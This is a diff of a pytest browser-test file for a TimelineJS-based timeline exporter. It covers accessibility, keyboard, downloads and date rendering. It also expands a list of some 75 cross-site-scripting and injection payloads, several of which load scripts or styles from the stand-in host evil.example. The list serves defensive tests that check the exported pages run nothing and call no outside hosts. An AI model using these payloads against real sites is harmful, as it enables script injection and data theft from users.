@@ -1,10 +1,12 @@
 """The page and TimelineJS itself in a real browser, from a file, in another zone and another language."""
 
 import json
+from datetime import date, timedelta
 
 import pytest
 
 from timeline import export
+from timeline.model import Anchor, Correction, Evidence, Section
 from timeline.model_timeline import Options
 
 SHOWN = "[...document.querySelectorAll('.event')].filter(e => !e.hidden).map(e => e.id.slice(2))"
@@ -83,9 +85,78 @@ def test_filters(page, browse):
     assert set(seen["results"][12]) == {"e-depuis", "e-fete"}  # what is open still lasts
 
 
-def test_no_serious_fault_for_those_who_hear_the_page(page, browse):
-    (faults,) = browse(page, "axe")["results"]
+@pytest.mark.parametrize("look", [(), ("dark",), ("width 375",)], ids=["light", "dark", "narrow"])
+def test_no_serious_fault_for_those_who_hear_the_page(page, browse, look):
+    opened = "document.querySelectorAll('details').forEach(each => each.open = true)"
+    *_, faults = browse(page, *look, opened, "axe .frieze")["results"]
     assert [fault for fault in faults if fault[1] in ("serious", "critical")] == []
+
+
+def test_the_keyboard_reaches_search_and_what_is_found(page, browse):
+    focus = "document.activeElement.name || document.activeElement.className"
+    seen = browse(page, "click [name=text]", "type ecole", "press Tab", focus, SHOWN)
+    assert seen["results"][3:] == ["from", ["e-minute"]]
+    seen = browse(page, "press Tab", focus, "press Enter", "location.hash")
+    assert (seen["results"][1], seen["results"][3]) == ("skip", "#list")
+
+
+def test_downloads_and_subscription_from_a_server(page, browse, serve):
+    href = "document.querySelector('.subscribe').href"
+    seen = browse(f"{serve}index.html", "download [href='timeline.ics']", "download [href='events.csv']", href)
+    (name, size), (table, _), address = seen["results"]
+    assert (name, table) == ("timeline.ics", "events.csv")
+    assert size == (page.parent / "timeline.ics").stat().st_size
+    assert address == serve.replace("http:", "webcal:") + "timeline.ics"
+    assert all(asked.startswith(serve) for asked in seen["requests"])
+    assert seen["console"] == []
+
+
+GRAINS = {
+    "12 septembre 2023, 5 h 02 min 07 s": ("2023-09-12T05:02:07+02:00", "2023-09-12T05:02:08+02:00", "second"),
+    "12 septembre 2023, 5 h 02": ("2023-09-12T05:02:00+02:00", "2023-09-12T05:03:00+02:00", "minute"),
+    "12 septembre 2023, 0 h": ("2023-09-12T00:00:00+02:00", "2023-09-12T00:01:00+02:00", "minute"),
+    "12 septembre 2023, 17 h": ("2023-09-12T17:00:00+02:00", "2023-09-12T18:00:00+02:00", "hour"),
+    "12 septembre 2023, matin": ("2023-09-12T06:00:00+02:00", "2023-09-12T12:00:00+02:00", "part_of_day"),
+    "nuit du 12 au 13 septembre 2023": ("2023-09-12T21:00:00+02:00", "2023-09-13T06:00:00+02:00", "part_of_day"),
+    "1er octobre 2023": ("2023-10-01", "2023-10-02", "day"),
+    "week-end des 16 et 17 septembre 2023": ("2023-09-16", "2023-09-18", "weekend"),
+    "semaine du 18 septembre 2023": ("2023-09-18", "2023-09-25", "week"),
+    "août 2023": ("2023-08-01", "2023-09-01", "month"),
+    "été 2023": ("2023-06-01", "2023-09-01", "season"),
+    "4e trimestre 2023": ("2023-10-01", "2024-01-01", "quarter"),
+    "2e semestre 2023": ("2023-07-01", "2024-01-01", "half"),
+}
+AGES = {
+    "52 av. J.-C.": ("-0051-01-01", "-0050-01-01", "year"),
+    "1789": ("1789-01-01", "1790-01-01", "year"),
+    "1914–1918": ("1914-01-01", "1919-01-01", "year"),
+    "années 1990": ("1990-01-01", "2000-01-01", "decade"),
+    "XIIe siècle": ("1100-01-01", "1200-01-01", "century"),
+}
+PARTS = {"12 septembre 2023, matin": "2023-09-12TMO", "nuit du 12 au 13 septembre 2023": "2023-09-12TNI"}
+
+
+@pytest.mark.parametrize("told", [GRAINS, AGES], ids=["grains", "ages"])
+def test_every_grain_is_shown_as_it_was_told(make, gather, dist, tmp_path, browse, told):
+    events = []
+    for number, (words, (begin, end, grain)) in enumerate(told.items()):
+        more = {"value": PARTS[words]} if words in PARTS else {}
+        events.append(make(f"e-{number}", "1789", begin, end, grain, title=f"Titre {number}", **more))
+    export.write(gather(events), tmp_path, Options(timelinejs=dist))
+    ids = [f"e-{number}" for number in range(len(events))]
+    look = [f"document.querySelector('#{name} .tl-headline-date').innerText" for name in ids]
+    seen = browse(tmp_path / "index.html", *look, "document.querySelectorAll('.tl-timemarker').length")
+    assert (seen["console"], seen["errors"], seen["dialogs"]) == ([], [], [])
+    assert seen["results"] == [*told, len(told)]
+
+
+def test_a_long_period_is_a_band_behind_the_others(make, gather, dist, tmp_path, browse):
+    events = [make(f"e-{year}", "1789", f"{year}-03-01", f"{year}-03-02", "day") for year in range(1900, 1960, 5)]
+    events.append(make("e-war", "1789", "1914-01-01", "1919-01-01", "year", kind="range", title="La <b>Guerre</b>"))
+    export.write(gather(events), tmp_path, Options(timelinejs=dist))
+    seen = browse(tmp_path / "index.html", "[...document.querySelectorAll('.tl-timeera')].map(e => e.innerText)")
+    assert seen["errors"] == []
+    assert seen["results"] == [["La <b>Guerre</b>"]]
 
 
 def test_nothing_overflows_a_narrow_screen(page, browse):
@@ -93,51 +164,164 @@ def test_nothing_overflows_a_narrow_screen(page, browse):
     assert seen["results"][1] <= 320
 
 
+HIT = "document.documentElement.dataset.hit=1;alert(1)"
 PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    '"><iframe src=javascript:alert(1)>',
-    "</script><script>alert(1)</script>",
-    "<a href=javascript:alert(1) id=x>x</a>",
-    "<style>@import 'https://evil.example'</style>",
-    "<math><mtext><img src=x onerror=alert(1)>",
-    "&lt;img src=x onerror=alert(1)&gt;",
-    "https://evil.example/x.png www.evil.example",
-    "<form action=https://evil.example><input autofocus onfocus=alert(1)>",
+    f"<script>{HIT}</script>",
+    f"<SCRIPT/x>{HIT}</SCRIPT>",
+    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
+    "<script src=https://evil.example/x.js></script>",
+    "<script src=//evil.example/x.js>",
+    f"</script><script>{HIT}</script>",
+    f"--></script><script>{HIT}</script>",
+    f"<!--<script>{HIT}//-->",
+    f"]]><script>{HIT}</script>",
+    f"</title><script>{HIT}</script>",
+    f"</style><script>{HIT}</script>",
+    f"</textarea><script>{HIT}</script>",
+    f"</noscript><img src=x onerror={HIT}>",
+    f"<img src=x onerror={HIT}>",
+    f'<img src="x" onerror="{HIT}">',
+    f"<img src=x:x onerror\n={HIT}>",
+    f"<image src=x onerror={HIT}>",
+    f"<img/src/onerror={HIT}>",
+    "<img src=https://evil.example/x.png>",
+    "<img srcset='https://evil.example/x.png 1x'>",
+    f"<svg onload={HIT}>",
+    f"<svg/onload={HIT}//",
+    f"<svg><script>{HIT}</script></svg>",
+    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
+    "<svg><use href='https://evil.example/x.svg#x'/></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
+    f"<math href=javascript:{HIT}>x</math>",
+    f"<body onload={HIT}>",
+    f"<body onpageshow={HIT}>",
+    f"<iframe src=javascript:{HIT}>",
+    f'<iframe srcdoc="<script>parent.{HIT}</script>">',
+    "<iframe src=https://evil.example>",
+    f"<object data=javascript:{HIT}>",
+    "<embed src=https://evil.example/x.swf>",
+    f"<video src=x onerror={HIT}>",
+    f"<video><source onerror={HIT}></video>",
+    f"<audio src=x onerror={HIT}>",
+    f"<details open ontoggle={HIT}>",
+    f"<marquee onstart={HIT}>",
+    f"<input autofocus onfocus={HIT}>",
+    f"<select autofocus onfocus={HIT}>",
+    f"<form action=javascript:{HIT}><button>x</button></form>",
+    f"<button formaction=javascript:{HIT} autofocus onfocus={HIT}>x",
+    "<form action=https://evil.example><input name=q>",
+    f"<a href=javascript:{HIT} id=x>x</a>",
+    f"<a href='&#106;avascript:{HIT}'>x</a>",
+    f"<a href=' java\tscript:{HIT}'>x</a>",
+    f"<a href=data:text/html,<script>{HIT}</script>>x</a>",
     "<base href=https://evil.example/>",
-    "${alert(1)}",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<style>*{background:url(https://evil.example/x.png)}</style>",
+    f'" onmouseover="{HIT}" autofocus onfocus="{HIT}',
+    f"' onmouseover='{HIT}' autofocus onfocus='{HIT}",
+    f"` onload=`{HIT}",
+    f'x" style=animation-name:x onanimationstart={HIT}//',
+    f"&lt;img src=x onerror={HIT}&gt;",
+    f"&#60;script&#62;{HIT}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
+    f"%3Cscript%3E{HIT}%3C/script%3E",
+    f"javascript:{HIT}",
+    f"https://evil.example/?q=<script>{HIT}</script>",
+    "https://evil.example;script-src/*",
+    "https://evil.example/x.png www.evil.example",
+    f"${{{HIT}}} {{{{constructor.constructor('{HIT}')()}}}} <%={HIT}%>",
+    f"$title ${{js}} $$ {{0.__class__}} %s {HIT}",
+    f"\u2028{HIT}\u2029",
+    f"<\x00script>{HIT}</\x00script>",
+    f"\ufeff<script>{HIT}</script>",
+    f"<script\u0000>{HIT}</script>",
+    "__proto__",
+    "<template><script>alert(1)</script></template><slot>",
+    f"<x-y onclick={HIT} tabindex=1 autofocus onfocus={HIT}>",
 ]
 
 
-def test_hostile_documents_run_nothing_and_ask_nothing(make, make_document, gather, dist, tmp_path, browse):
+def test_there_are_enough_payloads():
+    assert len(set(PAYLOADS)) >= 60
+
+
+@pytest.fixture
+def hostile(make, make_document, gather, dist, tmp_path):
+    """A timeline whose every text is a payload, one an event, exported with pictures."""
     events, documents = [], []
     for n, payload in enumerate(PAYLOADS):
+        anchor = Anchor(payload, "day", "text", payload, "Europe/Paris")
         document = make_document(
-            id=f"d{n}", text=f"{payload} 1789 {payload}", title=payload, source=payload, url=payload
-        )
+            id=f"d{n}", text=f"{payload} 1789 {payload}", title=payload, source=payload, url=payload,
+            publisher=payload, licence=payload, image=payload, image_credit=payload, anchor=anchor,
+        )  # fmt: skip
         documents.append(document)
-        events.append(
-            make(
-                f"e-{n}",
-                "1789",
-                f"2024-07-{n + 1:02d}",
-                f"2024-07-{n + 2:02d}",
-                "day",
-                document=document,
-                title=payload,
-                description=payload,
-                warnings=[payload],
-            )
-        )
-    export.write(gather(events, documents=documents), tmp_path, Options(timelinejs=dist, title=PAYLOADS[1]))
+        day = date(2024, 1, 1) + timedelta(days=n)
+        event = make(
+            f"e-{n}", "1789", day.isoformat(), (day + timedelta(days=1)).isoformat(), "day",
+            document=document, title=payload, description=payload, warnings=[payload], value=payload, edtf=payload,
+            section=Section(0, "article", 0, 5, payload, anchor=anchor, url=payload),
+            corrected=Correction(("title", "note"), payload), status="inferred",
+        )  # fmt: skip
+        event.evidence = [Evidence(0, len(payload), payload, payload, payload), *event.evidence]
+        events.append(event)
+    timeline = gather(events, documents=documents, generator=PAYLOADS[0])
+    every = tuple(name for name in export.exporters() if name != "timeml")
+    export.write(timeline, tmp_path, Options(formats=every, timelinejs=dist, title=PAYLOADS[5], media=True))
+    return tmp_path
+
+
+LEFT = "[document.documentElement.dataset.hit ?? null, location.protocol]"
+
+
+def test_hostile_documents_run_nothing_in_the_page(hostile, browse):
     visit = [f"timeline.goToId('e-{n}')" for n in range(len(PAYLOADS))]
-    seen = browse(tmp_path / "index.html", *visit, "document.querySelectorAll('.tl-slide').length", "location.href")
+    opened = "document.querySelectorAll('details').forEach(each => each.open = true)"
+    seen = browse(hostile / "index.html", *visit, opened, "document.querySelectorAll('.tl-slide').length", LEFT)
     assert seen["dialogs"] == []
     assert seen["errors"] == []
-    assert all(address.startswith("file:") for address in seen["requests"])
-    assert seen["results"][-2] == len(PAYLOADS) + 1
-    assert seen["results"][-1].startswith("file:")
+    # only pictures were asked for, and by --media alone
+    assert all(asked.startswith("file:") or asked.startswith("https://evil.example/") for asked in seen["requests"])
+    assert not any(asked.endswith((".js", ".css", ".svg", ".swf")) and "evil" in asked for asked in seen["requests"])
+    assert seen["results"][-2:] == [len(PAYLOADS) + 1, [None, "file:"]]
+
+
+def test_hostile_documents_run_nothing_where_no_policy_guards(hostile, browse):
+    content = json.loads((hostile / "timelinejs.json").read_bytes())
+    for slide in content["events"]:
+        slide.pop("media", None)  # a document's picture is asked for by choice
+    text = json.dumps(content).replace("<", "\u003c")
+    bare = hostile / "bare.html"
+    bare.write_text(
+        '<!doctype html><meta charset="utf-8"><link rel="stylesheet" href="timelinejs/css/timeline.css">'
+        '<div id="frieze" style="height:600px"></div><script src="timelinejs/js/timeline.js"></script>'
+        f"<script>var timeline = new TL.Timeline('frieze', {text}, {{font: null}})</script>",
+        "utf-8",
+    )
+    visit = [f"timeline.goToId('e-{n}')" for n in range(len(PAYLOADS))]
+    seen = browse(bare, *visit, "document.querySelectorAll('.tl-slide').length", LEFT)
+    assert seen["dialogs"] == []
+    assert seen["errors"] == []
+    assert all(asked.startswith("file:") for asked in seen["requests"])
+    assert seen["results"][-2:] == [len(PAYLOADS) + 1, [None, "file:"]]
+
+
+def test_pictures_are_shown_on_request_only(make, make_document, gather, dist, tmp_path, browse):
+    document = make_document(image="http://127.0.0.1:9/halle.jpg", image_credit="Photo <Une>")
+    events = [make(f"e-{n}", "1789", f"2024-07-{n}", f"2024-07-{n + 1}", "day", document=document) for n in (14, 15)]
+    for media in (False, True):
+        out = tmp_path / str(media)
+        out.mkdir()
+        export.write(gather(events, documents=[document]), out, Options(timelinejs=dist, media=media))
+        shown = "[...document.querySelectorAll('.list figure')].map(f => [f.querySelector('img').src, f.innerText])"
+        seen = browse(out / "index.html", shown)
+        figures = [["http://127.0.0.1:9/halle.jpg", "Photo <Une>"]] if media else []
+        assert seen["results"] == [figures]
+        assert {asked for asked in seen["requests"] if not asked.startswith("file:")} == {each[0] for each in figures}
+        assert ("127.0.0.1" in (out / "timelinejs.json").read_text("utf-8")) is media
 
 
 def test_without_timelinejs_the_list_is_there(timeline, tmp_path, browse):
